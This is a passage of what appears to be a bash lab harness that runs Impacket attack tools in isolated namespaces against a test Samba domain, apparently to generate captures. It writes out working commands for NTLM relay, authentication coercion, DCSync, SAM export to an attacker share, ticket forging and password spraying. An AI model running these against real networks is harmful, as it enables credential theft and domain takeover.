  relay_start http "ldap://$DC_IP" --no-dump --no-da --escalate-user alice
  victim_curl "http://$ATK_IP/intranet/report.docx"
  relay_stop 8
}
sc_atk_relay_smb_to_http() {
  relay_start smb "http://$DC_IP/certsrv/" --adcs --template User
  victim_smb
  # the ADCS attack first generates an RSA-4096 key, then posts the request
  relay_wait 'Error getting certificate|Error obtaining|GOT CERTIFICATE|Traceback' 90
  relay_stop 3
}
sc_atk_relay_smb_to_mssql() {
  tds_start
  relay_start smb "mssql://$VIC_IP" -q "select @@version" -q "exec master..xp_cmdshell 'whoami'"
  victim_smb
  relay_stop 5
  tds_stop
}
SMBSRV_PID=
sc_atk_coerce() {
  load_secrets
  mkdir -p share
  local cmd; cmd="$(imp smbserver) -smb2support -ip $ATK_IP share $PWD/share"
  printf '+ [smbserver] (background) ak %s\n' "$cmd"
  # shellcheck disable=SC2086
  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > smbserver.log 2>&1 < /dev/null &
  SMBSRV_PID=$!
  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q "$ATK_IP:445 " && break; sleep 0.25; done
  # shellcheck disable=SC2046
  X coerce atk $(implib) "$TOOLS/coerce.py" -u alice -p "$ALICE_PW" -d "$D" --listener "$ATK_IP" --target "$DC_IP" \
    efsr-lsarpc efsr-efsrpc efsr-encrypt rprn dfsnm || true
  # The coerced server's answer: Samba does not implement the EFSR call-back, so the leg a Windows
  # DC would make is made by a real client from the DC's own address with the DC's machine account
  # (smbclient, NT hash of DC1$), to the UNC host the calls named.
  sleep 1
  X coerced-dc-smbclient indc_client smbclient -s "$STATE/dc-client.conf" --use-kerberos=off \
    -U "$DOMAIN\\DC1\$" --pw-nt-hash "//$ATK_IP/share" "$DC_NT" -c 'ls' || true
  sleep 2
  kill -TERM "$SMBSRV_PID" 2>/dev/null || true; wait "$SMBSRV_PID" 2>/dev/null || true
  echo "---- smbserver output"; cat smbserver.log
}
# Coercion followed by the relay that uses it: DC1$'s authentication, made to the attacker's
# ntlmrelayx SMB listener, is relayed to the SQL server on ws01 (DC1$ is a login there).
sc_atk_coerce_relay() {
  load_secrets
  tds_start
  relay_start smb "mssql://$VIC_IP" -q "select @@version" -q "exec master..xp_cmdshell 'whoami'"
  # shellcheck disable=SC2046
  X coerce atk $(implib) "$TOOLS/coerce.py" -u alice -p "$ALICE_PW" -d "$D" --listener "$ATK_IP" --target "$DC_IP" \
    efsr-lsarpc rprn || true
  sleep 1
  X coerced-dc-smbclient indc_client smbclient -s "$STATE/dc-client.conf" --use-kerberos=off \
    -U "$DOMAIN\\DC1\$" --pw-nt-hash "//$ATK_IP/share" "$DC_NT" -c 'ls' || true
  relay_stop 5
  tds_stop
}
indc_client() {  # a client on the DC's address (for the coerced leg)
  mkdir -p "$STATE/dc-client"/{cache,lock,state,private}
  cat > "$STATE/dc-client.conf" <<EOF
[global]
	workgroup = $DOMAIN
	realm = $REALM
	netbios name = DC1
	disable netbios = yes
	client min protocol = SMB2_02
	cache directory = $STATE/dc-client/cache
	lock directory = $STATE/dc-client/lock
	state directory = $STATE/dc-client/state
	private dir = $STATE/dc-client/private
	log level = 0
EOF
  ip netns exec $NS_DC timeout -k 5 "$TOOL_TO" "$@" < /dev/null
}
sc_atk_mssqlclient() {
  tds_start
  printf '%s\n' 'select @@version' 'enable_xp_cmdshell' 'xp_cmdshell whoami' \
    "EXEC master..xp_dirtree '\\\\$ATK_IP\\share'" "EXEC master.dbo.xp_fileexist '\\\\$ATK_IP\\share\\report.xlsx'" \
    "EXEC xp_subdirs '\\\\$ATK_IP\\share\\'" 'exit' > sql.txt
  echo "+ (sql.txt: $(paste -sd';' sql.txt))"
  # shellcheck disable=SC2046
  X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
  tds_stop
}
sc_atk_mssqlclient_badpw() {
  tds_start
  printf '%s\n' 'select @@version' 'exit' > sql.txt
  echo "+ (sql.txt: $(paste -sd';' sql.txt))"
  # shellcheck disable=SC2046
  X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:Wrong.Passw0rd!@$VIC_IP" || true
  tds_stop
}
sc_atk_mssqlclient_tls() {
  tds_start --encrypt-login
  printf '%s\n' 'select @@version' 'xp_cmdshell whoami' 'exit' > sql.txt
  echo "+ (sql.txt: $(paste -sd';' sql.txt))"
  # shellcheck disable=SC2046
  X mssqlclient ak $(imp mssqlclient) -windows-auth -file sql.txt "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
  tds_stop
}
sc_ben_winrm_ntlm() {
  X winrm-ntlm vic env OPENSSL_CONF="$TOOLS/openssl-legacy.cnf" /usr/bin/python3 "$TOOLS/winrm_run.py" \
    "http://$DCFQDN:5985/wsman" "$DOMAIN\\Administrator" "$ADMIN_PW" ipconfig || true
}
sc_ben_http_ntlm() {
  X http-ntlm-carol vic env OPENSSL_CONF="$TOOLS/openssl-legacy.cnf" /usr/bin/python3 "$TOOLS/http_ntlm_get.py" \
    "http://$DCFQDN/certsrv/" "$DOMAIN\\da_carol" "$CAROL_PW" "http://$DCFQDN/certsrv/index.html"
  X http-ntlm-alice vic env OPENSSL_CONF="$TOOLS/openssl-legacy.cnf" /usr/bin/python3 "$TOOLS/http_ntlm_get.py" \
    "http://$DCFQDN/certsrv/" "$DOMAIN\\alice" "$ALICE_PW"
}

# --- #2 every network example of current Impacket, and the administrative twins
ADMW="$D/Administrator:$ADMIN_PW"
smbc_file_opt() { if [ "$IVER" = 010 ]; then echo -file; else echo -inputfile; fi; }   # renamed after 0.10
sc_atk_dacledit() {
  X dacledit-write ak $(imp dacledit) -action write -rights DCSync -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
  X dacledit-read ak $(imp dacledit) -action read -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
  X dacledit-remove ak $(imp dacledit) -action remove -rights DCSync -principal alice -target-dn "$BASEDN" -dc-ip "$DC_IP" "$ADMW" || true
}
sc_atk_owneredit() {
  X owneredit-read ak $(imp owneredit) -action read -target bob -dc-ip "$DC_IP" "$ADMW" || true
  X owneredit-write ak $(imp owneredit) -action write -new-owner alice -target bob -dc-ip "$DC_IP" "$ADMW" || true
}
pre_atk_rbcd() { stool computer delete EVILPC >/dev/null 2>&1 || true; stool computer add EVILPC >/dev/null 2>&1 || stool computer create EVILPC >/dev/null 2>&1 || true; }
sc_atk_rbcd() {
  if [ "$IVER" = 010 ]; then export COMPAT=1; X rbcd-write ak $(imp rbcd) -k -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$KD/Administrator:$ADMIN_PW" || true
    X rbcd-ntlm ak $(imp rbcd) -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$ADMW" || true
  else
    X rbcd-write ak $(imp rbcd) -delegate-from 'EVILPC$' -delegate-to 'DC1$' -action write -dc-ip "$DC_IP" "$ADMW" || true
    X rbcd-read ak $(imp rbcd) -delegate-to 'DC1$' -action read -dc-ip "$DC_IP" "$ADMW" || true
    X rbcd-flush ak $(imp rbcd) -delegate-to 'DC1$' -action flush -dc-ip "$DC_IP" "$ADMW" || true
  fi
}
BOB_NEW1='Bob.New1.Passw0rd!' BOB_NEW2='Bob.New2.Passw0rd!' BOB_NEW3='Bob.New3.Passw0rd!' BOB_NEW4='Bob.New4.Passw0rd!'
pre_atk_changepasswd() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; stool domain passwordsettings set --min-pwd-age=0 --history-length=0 >/dev/null 2>&1 || true; }
sc_atk_changepasswd() {
  # each change starts from bob's lab password, set locally on the DC (sam.ldb, nothing on the wire)
  bob_reset() { stool user setpassword bob --newpassword="$BOB_PW" >/dev/null; }
  bob_reset; X samr-smb ak $(imp changepasswd) -newpass "$BOB_NEW1" -protocol smb-samr "$D/bob:$BOB_PW@$DC_IP" || true
  bob_reset; X samr-rpc ak $(imp changepasswd) -newpass "$BOB_NEW2" -protocol rpc-samr "$D/bob:$BOB_PW@$DC_IP" || true
  bob_reset; X kpasswd ak $(imp changepasswd) -newpass "$BOB_NEW3" -protocol kpasswd -dc-ip "$DC_IP" "$KD/bob:$BOB_PW@$DCFQDN" || true
  bob_reset; X ldap ak $(imp changepasswd) -newpass "$BOB_NEW4" -protocol ldap -dc-ip "$DC_IP" "$D/bob:$BOB_PW@$DC_IP" || true
  # SAMR resets want the NetBIOS domain (SamrLookupDomainInSamServer): LAB, not lab.test
  X reset-samr ak $(imp changepasswd) -reset -altuser "$DOMAIN/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW1" -protocol smb-samr "$DOMAIN/bob@$DC_IP" || true
  X reset-ldap ak $(imp changepasswd) -reset -altuser "$D/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW2" -protocol ldap -dc-ip "$DC_IP" "$D/bob@$DC_IP" || true
  bob_reset
}
pre_atk_smbpasswd() { pre_atk_changepasswd; }
sc_atk_smbpasswd() { X smbpasswd ak $(imp smbpasswd) -newpass "$BOB_NEW1" "$D/bob:$BOB_PW@$DC_IP" || true; }
pre_atk_net() { stool user delete evilusr >/dev/null 2>&1 || true; }
sc_atk_net() {
  local T="$ADMW@$DC_IP"
  X net-user-list ak $(imp net) "$T" user || true
  X net-user-create ak $(imp net) "$T" user -create evilusr -newPasswd 'Evil.Usr.Passw0rd!' || true
  X net-group-join ak $(imp net) "$T" group -name 'Domain Admins' -join evilusr || true
  X net-localgroup ak $(imp net) "$T" localgroup -name Administrators || true
  X net-computer ak $(imp net) "$T" computer || true
  X net-group-unjoin ak $(imp net) "$T" group -name 'Domain Admins' -unjoin evilusr || true
  X net-user-remove ak $(imp net) "$T" user -remove evilusr || true
}
sc_atk_getST_variants() {
  export COMPAT=1
  X getST-self ak $(imp getST) -self -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
  X getST-altservice ak $(imp getST) -spn "cifs/$DCFQDN" -altservice "host/$DCFQDN" -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
  X getST-u2u ak $(imp getST) -u2u -self -impersonate Administrator -dc-ip "$DC_IP" "$KD/alice:$ALICE_PW" || true
}
sc_atk_getPac() { export COMPAT=1; X getPac ak $(imp getPac) -targetUser Administrator "$KD/alice:$ALICE_PW" || true; }
sc_atk_services_verbs() {
  local T="$ADMW@$DC_IP" v
  for v in list "status -name Netlogon" "config -name Netlogon" "start -name Netlogon" "stop -name Netlogon" \
           "change -name Netlogon -start_type 2"; do
    # shellcheck disable=SC2086
    X "services-${v%% *}" ak $(imp services) "$T" $v || true
  done
}
sc_atk_reg_save() {
  local T="$ADMW@$DC_IP"
  X reg-query ak $(imp reg) "$T" query -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa' || true
  X reg-save ak $(imp reg) "$T" save -keyName 'HKLM\SAM' -o "\\\\$ATK_IP\\share" || true
  X reg-backup ak $(imp reg) "$T" backup -o "\\\\$ATK_IP\\share" || true
}
sc_atk_regsecrets() { X regsecrets ak $(imp regsecrets) "$ADMW@$DC_IP" || true; }
sc_atk_wmiquery() {
  printf 'SELECT Name FROM Win32_Process\nexit\n' > wql.txt
  X wmiquery ak $(imp wmiquery) -namespace //./root/cimv2 -file wql.txt "$ADMW@$DC_IP" || true
}
sc_atk_wmipersist() {
  printf 'Set o = CreateObject("WScript.Shell")\n' > evil.vbs
  X wmipersist ak $(imp wmipersist) "$ADMW@$DC_IP" install -name evil -vbs evil.vbs -timer 60000 || true
}
sc_atk_rpcmap() {
  X rpcmap-epm ak $(imp rpcmap) "ncacn_ip_tcp:$DC_IP[135]" || true
  X rpcmap-brute ak $(imp rpcmap) -brute-uuids -auth-rpc "$D/alice:$ALICE_PW" "ncacn_np:$DC_IP[\\pipe\\lsarpc]" -auth-transport "$D/alice:$ALICE_PW" || true
}
sc_atk_getArch() { X getArch ak $(imp getArch) -target "$DC_IP" || true; }
sc_atk_machine_role() { X machine_role ak $(imp machine_role) "$D/alice:$ALICE_PW@$DC_IP" || true; }
sc_atk_netview() {
  printf '%s\n' "$DC_IP" > hosts.txt
  X netview ip netns exec $NS_ATK timeout -k 2 20 $(imp netview) -target "$DC_IP" "$D/alice:$ALICE_PW" < /dev/null || true
}
sc_atk_DumpNTLMInfo() { X DumpNTLMInfo ak $(imp DumpNTLMInfo) "$DC_IP" || true; }
sc_atk_lookupsid() { X lookupsid ak $(imp lookupsid) "$D/alice:$ALICE_PW@$DC_IP" 1500 || true; }
sc_atk_samrdump() { X samrdump ak $(imp samrdump) "$D/alice:$ALICE_PW@$DC_IP" || true; }
sc_atk_GetLAPSPassword() { X GetLAPSPassword ak $(imp GetLAPSPassword) -dc-ip "$DC_IP" "$ADMW" || true; }
sc_atk_findDelegation() { X findDelegation ak $(imp findDelegation) -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
sc_atk_GetADUsers() { X GetADUsers ak $(imp GetADUsers) -all -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
sc_atk_GetADComputers() { X GetADComputers ak $(imp GetADComputers) -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true; }
sc_atk_CheckLDAPStatus() { X CheckLDAPStatus ak $(imp CheckLDAPStatus) -dc-ip "$DC_IP" -domain "$DNSDOM" || true; }
sc_atk_gpp_password() { X Get-GPPPassword ak $(imp Get-GPPPassword) "$D/alice:$ALICE_PW@$DC_IP" || true; }
sc_atk_dpapi_backupkeys() { X dpapi-backupkeys ak $(imp dpapi) backupkeys -t "$ADMW@$DC_IP" --export || true; }
sc_atk_smbclient_ops() {
  printf 'local file\n' > loot-upload.txt
  printf 'shares\nuse C$\nls\ncd Windows\\Temp\nput loot-upload.txt\nget loot-upload.txt\nrm loot-upload.txt\nuse SYSVOL\nls\nexit\n' > cmds.txt
  X smbclient ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$ADMW@$DC_IP" || true
}
sc_atk_attrib() {
  X attrib-query ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' query || true
  X attrib-set ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' set -H -s || true
  X attrib-reset ak $(imp attrib) "$ADMW@$DC_IP" 'C$' 'Windows\Temp' set -n || true
}
sc_atk_tstool() {
  X tstool-qwinsta ak $(imp tstool) "$ADMW@$DC_IP" qwinsta || true
  X tstool-tasklist ak $(imp tstool) "$ADMW@$DC_IP" tasklist || true
}
sc_atk_badsuccessor() {
  X badsuccessor-search ak $(imp badsuccessor) -action search -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
  X badsuccessor-add ak $(imp badsuccessor) -action add -dmsa-name evildmsa -target-account Administrator -target-ou "OU=Domain Controllers,$BASEDN" -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
}
sc_atk_keylistattack() {
  load_secrets
  X keylistattack-samr ak $(imp keylistattack) -rodcNo 20000 -rodcKey "$KRBTGT_AES" -dc-ip "$DC_IP" "$DOMAIN/Administrator:$ADMIN_PW@$DCFQDN" || true
  printf '%s\n' Administrator alice bob > targets.txt
  X keylistattack-list ak $(imp keylistattack) -rodcNo 20000 -rodcKey "$KRBTGT_AES" -domain "$DNSDOM" -kdc "$DCFQDN" \
    -tf targets.txt -dc-ip "$DC_IP" LIST || true
}
sc_atk_raiseChild() { X raiseChild ak $(imp raiseChild) "$D/Administrator:$ADMIN_PW" || true; }
sc_atk_goldenPac() { X goldenPac ak $(imp goldenPac) -dc-ip "$DC_IP" -target-ip "$DC_IP" "$D/alice:$ALICE_PW@$DCFQDN" whoami || true; }
sc_atk_ticketer_variants() {
  load_secrets; export COMPAT=1
  X ticketer-extrasid $(imp ticketer) -aesKey "$KRBTGT_AES" -domain-sid "$DOMAIN_SID" -domain "$KD" -user-id 500 \
    -extra-sid "$DOMAIN_SID-519" Administrator || true
  smb_k_cmds
  X smbclient-k ak env KRB5CCNAME="$PWD/Administrator.ccache" $(imp smbclient) -k -no-pass -dc-ip "$DC_IP" \
    -target-ip "$DC_IP" "$(smbc_file_opt)" cmds.txt "$KD/Administrator@$DCFQDN" || true
  if [ "$IVER" = 014 ]; then
    rm -f Administrator.ccache
    X ticketer-request-impersonate ak $(imp ticketer) -request -impersonate Administrator -user alice -password "$ALICE_PW" \
      -nthash "$KRBTGT_NT" -aesKey "$KRBTGT_AES" -domain-sid "$DOMAIN_SID" -domain "$KD" -dc-ip "$DC_IP" Administrator || true
  fi
}
sc_atk_secretsdump_modes() {
  local T="$ADMW@$DC_IP"
  X just-dc-ntlm ak $(imp secretsdump) -just-dc-ntlm "$T" || true
  X just-dc-user ak $(imp secretsdump) -just-dc-user krbtgt "$T" || true
  X use-vss ak $(imp secretsdump) -use-vss "$T" || true
  if [ "$IVER" = 014 ]; then
    X ldapfilter ak $(imp secretsdump) -just-dc -ldapfilter '(sAMAccountName=alice)' -dc-ip "$DC_IP" "$T" || true
  fi
}
# --- #3 a new DC replicating for the first time, and DCSync from the attacker in the same capture
DC2_STATE=$STATE/dc2
dc2_exists() { ns_exists $NS_DC2; }
dc2_down() {
  dc2_exists || return 0
  local pid
  for pid in $(ip netns pids $NS_DC2 2>/dev/null); do kill -TERM "$pid" 2>/dev/null || true; done
  sleep 1
  for pid in $(ip netns pids $NS_DC2 2>/dev/null); do kill -KILL "$pid" 2>/dev/null || true; done
  ip -n $NS_SW link del p-dc2 2>/dev/null || true
  ip netns del $NS_DC2
  rm -rf /etc/netns/$NS_DC2
}
dc2_up() {
  dc2_down
  ip netns add $NS_DC2
  ip netns exec $NS_DC2 sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
  ip -n $NS_DC2 link set lo up
  ip -n $NS_SW link add p-dc2 type veth peer name eth0 netns $NS_DC2
  ip -n $NS_DC2 link set eth0 address 02:00:0a:63:00:04
  ip -n $NS_DC2 addr add "$DC2_IP/24" dev eth0
  ip netns exec $NS_DC2 ethtool -K eth0 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
  ip netns exec $NS_SW ethtool -K p-dc2 tx off sg off tso off gso off gro off >/dev/null 2>&1 || true
  ip -n $NS_SW link set p-dc2 master br0 up
  ip -n $NS_DC2 link set eth0 up
  ns_etc $NS_DC2
  printf '%s %s %s\n' "$DC2_IP" "$DC2FQDN" "$DC2HOST" >> /etc/netns/$NS_DC2/hosts
  if ip -n $NS_DC2 route show default | grep -q .; then die "unexpected default route in $NS_DC2"; fi
}
dc2() { ip netns exec $NS_DC2 timeout -k 5 300 "$@" < /dev/null; }
pre_atk_dc2_join_dcsync() {
  # a DC object left by an earlier run would make the join a re-join: remove it first
  indc samba-tool domain demote --remove-other-dead-server=$DC2HOST -s "$SMBCONF" >/dev/null 2>&1 || true
  rm -rf "$DC2_STATE"; mkdir -p "$DC2_STATE"
  dc2_up
}
sc_atk_dc2_join_dcsync() {
  # the namespace shares the host's UTS name: the DC's name must be given (netbios name)
  X dc2-join dc2 samba-tool domain join "$DNSDOM" DC --targetdir="$DC2_STATE" --server="$DCFQDN" \
    -U "$DOMAIN\\Administrator%$ADMIN_PW" --dns-backend=SAMBA_INTERNAL --option="interfaces = lo eth0" \
    --option="netbios name = ${DC2HOST^^}" --option="bind interfaces only = yes" --option="disable netbios = yes" || true
  sleep 2
  X secretsdump-just-dc ak $(imp secretsdump) -just-dc "$ADMW@$DC_IP" || true
}
post_atk_dc2_join_dcsync() {
  dc2_down
  indc samba-tool domain demote --remove-other-dead-server=$DC2HOST -s "$SMBCONF" >/dev/null 2>&1 || true
}

# --- password spraying: one wrong password tried once against many accounts, as sprayers built on
# Impacket's SMBConnection.login / getKerberosTGT do. The accounts besides the lab's own are
# created once (staff names a sprayer would take from a user list); none of them is locked out
# (the lab domain has no lockout threshold) and none has the sprayed password.
SPRAY_PW='Winter2026!'
SPRAY_STAFF=(j.smith m.jones a.brown s.taylor d.wilson l.evans k.thomas r.roberts e.walker p.wright
             c.thompson h.white n.hughes t.edwards g.green f.hall o.wood v.harris b.lewis w.martin)
SPRAY_USERS=(Administrator alice bob da_carol svc_sql svc_web "${SPRAY_STAFF[@]}")
spray_accounts() {
  local u
  for u in "${SPRAY_STAFF[@]}"; do
    stool user show "$u" >/dev/null 2>&1 || stool user add "$u" "Staff.${u#*.}.Passw0rd!" >/dev/null
  done
}
pre_atk_spray() { spray_accounts; }
sc_atk_spray() {
  local u
  printf 'exit\n' > cmds.txt
  for u in "${SPRAY_USERS[@]}"; do
    X "spray-smb-$u" ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$D/$u:$SPRAY_PW@$DC_IP" || true
  done
}
pre_atk_spray_kerberos() { spray_accounts; }
sc_atk_spray_kerberos() {
  local u
  for u in "${SPRAY_USERS[@]}"; do
    X "spray-krb-$u" ak $(imp getTGT) -dc-ip "$DC_IP" "$KD/$u:$SPRAY_PW" || true
  done
}

# --- recon and Impacket as a server
sc_atk_rpcdump() {
  X rpcdump-135 ak $(imp rpcdump) "$DC_IP" || true
  X rpcdump-445 ak $(imp rpcdump) -port 445 "$D/alice:$ALICE_PW@$DC_IP" || true
}
# srv_start TOOL ARGS...: an Impacket server example on the attacker, in the background until srv_stop
SRV_PID=
srv_start() {
  local t=$1; shift
  local cmd; cmd="$(imp "$t") $*"
  printf '+ [%s] (background) ak %s\n' "$t" "$cmd"
  # shellcheck disable=SC2086
  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > server.log 2>&1 < /dev/null &
  SRV_PID=$!
  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q ":445 " && break; sleep 0.25; done
}
srv_stop() {
  sleep 1
  kill -TERM "$SRV_PID" 2>/dev/null || true; wait "$SRV_PID" 2>/dev/null || true; SRV_PID=
  echo "---- server output"; cat server.log
}
sc_atk_smbserver() {
  mkdir -p share; printf 'quarterly figures\n' > share/report.txt
  srv_start smbserver -smb2support -ip "$ATK_IP" share "$PWD/share"
  X victim-smbclient vic smbclient -s "$CLIENTCONF" --use-kerberos=off -U "$DOMAIN\\da_carol%$CAROL_PW" \
    "//$ATK_IP/share" -c 'ls; get report.txt /dev/null' || true
  srv_stop
}
sc_atk_karmaSMB() {
  printf 'karma payload\n' > payload.txt
  srv_start karmaSMB -smb2support "$PWD/payload.txt"
  X victim-smbclient vic smbclient -s "$CLIENTCONF" --use-kerberos=off -U "$DOMAIN\\da_carol%$CAROL_PW" \
    "//$ATK_IP/share" -c 'get report.docx /dev/null' || true
  srv_stop
}
# sambaPipe uploads the shared object as it is; this one is a plain file with a .so name (the DC's
# Samba 4.17 is patched against CVE-2017-7494 and never loads it).
sc_atk_sambaPipe() {
  printf 'not a library: lab stand-in for a payload\n' > lab.so
  X sambaPipe ak $(imp sambaPipe) -so lab.so "$ADMW@$DC_IP" || true
}
sc_atk_filetime() {
  printf 'loot\n' > loot.txt
  printf 'use C$\ncd Windows\\Temp\nput loot.txt\nexit\n' > cmds.txt
  X smbclient-put ak $(imp smbclient) "$(smbc_file_opt)" cmds.txt "$ADMW@$DC_IP" || true
  X filetime-stat ak $(imp filetime) "$ADMW@$DC_IP" 'C$' 'Windows\Temp\loot.txt' stat || true
  X filetime-touch ak $(imp filetime) "$ADMW@$DC_IP" 'C$' 'Windows\Temp\loot.txt' touch -c -a -w -m \
    -t 2015-01-01_00:00:00.000000 -v || true
}

sc_atk_checkMSSQLStatus() {
  tds_start --encrypt-login
  X checkMSSQLStatus ak $(imp checkMSSQLStatus) "$DOMAIN/da_carol:$CAROL_PW@$VIC_IP" || true
  tds_stop
}
sc_atk_mimikatz() {
  printf 'exit\n' > mimi.txt
  X mimikatz ak $(imp mimikatz) -file mimi.txt "$ADMW@$DC_IP" || true
}
sc_atk_dpapidump() { X dpapidump ak $(imp dpapidump) "$ADMW@$DC_IP" || true; }

# --- RDP: FreeRDP's shadow server on dc1 (10.99.0.1:3389) sharing a virtual X display, NLA only
# (CredSSP with NTLM, checked against a SAM file of NT hashes made by winpr-hash), the way a
# Windows host with "require Network Level Authentication" answers. Started per scenario, ended by
# its PIDs. The X displays are private to the lab (:73 the server's screen, :74 ws01's client).
RDP_DIR=$STATE/rdp RDP_PIDS=()
rdp_start() {
  load_secrets
  mkdir -p "$RDP_DIR"
  local u
  # the account as rdp_check.py (lab.test), xfreerdp (LAB) and a bare name send it
  for u in "LAB" "$D" ""; do
    winpr-hash -u alice -p "$ALICE_PW" ${u:+-d "$u"} -f sam
    winpr-hash -u Administrator -p "$ADMIN_PW" ${u:+-d "$u"} -f sam
  done > "$RDP_DIR/sam"
  chmod 600 "$RDP_DIR/sam"
  ip netns exec $NS_DC Xvfb :73 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-dc.log" 2>&1 &
  RDP_PIDS+=($!)
  sleep 1
  # the shadow server keeps its TLS certificate under $HOME/.config/freerdp
  ip netns exec $NS_DC env HOME="$RDP_DIR" DISPLAY=:73 freerdp-shadow-cli "/bind-address:$DC_IP" /port:3389 \
    /sec:nla "/sam-file:$RDP_DIR/sam" +auth > "$PWD/rdp_server.log" 2>&1 &
  RDP_PIDS+=($!)
  local i; for i in $(seq 1 40); do indc ss -Hltn | grep -q "$DC_IP:3389 " && break; sleep 0.25; done
  indc ss -Hltn | grep -q "$DC_IP:3389 " || die "the RDP server did not listen on $DC_IP:3389 (see rdp_server.log)"
}
rdp_client_display() {  # an X display for Debian's RDP client on ws01
  ip netns exec $NS_VIC Xvfb :74 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-ws01.log" 2>&1 &
  RDP_PIDS+=($!)
  sleep 1
}
rdp_stop() {
  local pid
  for pid in "${RDP_PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
  for pid in "${RDP_PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
  RDP_PIDS=()
  echo "---- rdp_server.log"; grep -E 'ERROR|LOGON|denied|verification' "$PWD/rdp_server.log" || true
}
sc_atk_rdp_check() {
  rdp_start
  X rdp_check-valid ak $(imp rdp_check) "$D/alice:$ALICE_PW@$DCFQDN" || true
  X rdp_check-wrong ak $(imp rdp_check) "$D/alice:Wrong.Passw0rd!@$DCFQDN" || true
  rdp_stop
}
sc_ben_rdp_xfreerdp() {
  rdp_start
  rdp_client_display
  X xfreerdp-auth-only vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" /sec:nla \
    /cert:ignore +auth-only || true
  # a short desktop session; it ends when the timeout stops the client
  X xfreerdp-session vic env HOME="$PWD" DISPLAY=:74 timeout -s INT 8 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" \
    /sec:nla /cert:ignore /size:800x600 || true
  rdp_stop
}

# --- kintercept.py: the victim's Kerberos routed through the attacker. The service svc_web on ws01
# asks for S4U2self (getST.py -impersonate alice, then S4U2proxy) from a "KDC" at the attacker's
# address (standing in for an ARP/DNS hijack); kintercept.py forwards every record to dc1:88,
# replacing the PA-FOR-USER of the S4U2self TGS-REQ by Administrator with an unkeyed CRC32 checksum
# (CVE-2018-16860 / CVE-2019-0734) and the cname of the TGS-REP by alice. kintercept.py does not run
# under Python 3 in either version; tools/kintercept_py3.py ports the lines that break, first.
KINT_PID=
sc_atk_kintercept() {
  local src; src=$(imp kintercept); src=${src##* }
  X port-py3 /usr/bin/python3 "$TOOLS/kintercept_py3.py" "$src" "$PWD/kintercept.py" || return 1
  local cmd; cmd="$(imp kintercept)"
  cmd="${cmd% *} $PWD/kintercept.py --listen-addr $ATK_IP --request-handler s4u2else:Administrator --reply-handler tgs-rep-user:alice $DC_IP"
  printf '+ [kintercept] (background) ak %s\n' "$cmd"
  # shellcheck disable=SC2086
  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > kintercept.log 2>&1 < /dev/null &
  KINT_PID=$!
  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q "$ATK_IP:88 " && break; sleep 0.25; done
  export COMPAT=1
  X getST-via-kintercept vic $(imp getST) -spn "cifs/$DCFQDN" -impersonate alice -dc-ip "$ATK_IP" "$KD/svc_web:$WEB_PW" || true
  sleep 1
  kill -TERM "$KINT_PID" 2>/dev/null || true; wait "$KINT_PID" 2>/dev/null || true; KINT_PID=
  echo "---- kintercept output"; cat kintercept.log
}

# --- SQL Server Browser ([MC-SQLR], UDP 1434) on ws01: Debian has none, so the lab's imitation
# (tools/sqlbrowser_responder.py) answers with two instances; the clients' requests are real.
SQLB_PID=
sqlbrowser_start() {
  ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/sqlbrowser_responder.py" --listen "$VIC_IP" --server SQL01 \
    --instance MSSQLSERVER:1433:1434 --instance REPORTING:49712 > "$PWD/sqlbrowser.log" 2>&1 &
  SQLB_PID=$!
  local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hlun | grep -q "$VIC_IP:1434 " && break; sleep 0.25; done
}
sqlbrowser_stop() {
  kill -TERM "$SQLB_PID" 2>/dev/null || true; wait "$SQLB_PID" 2>/dev/null || true; SQLB_PID=
  echo "---- sqlbrowser_responder.log"; cat "$PWD/sqlbrowser.log"
}
sc_atk_mssqlinstance() {
  sqlbrowser_start
  X mssqlinstance ak $(imp mssqlinstance) "$VIC_IP" || true
  sqlbrowser_stop
}
sc_ben_sql_browser_tsql() {
  sqlbrowser_start
  printf '[sql01]\n\thost = %s\n\tinstance = REPORTING\n\ttds version = 7.4\n' "$VIC_IP" > freetds.conf
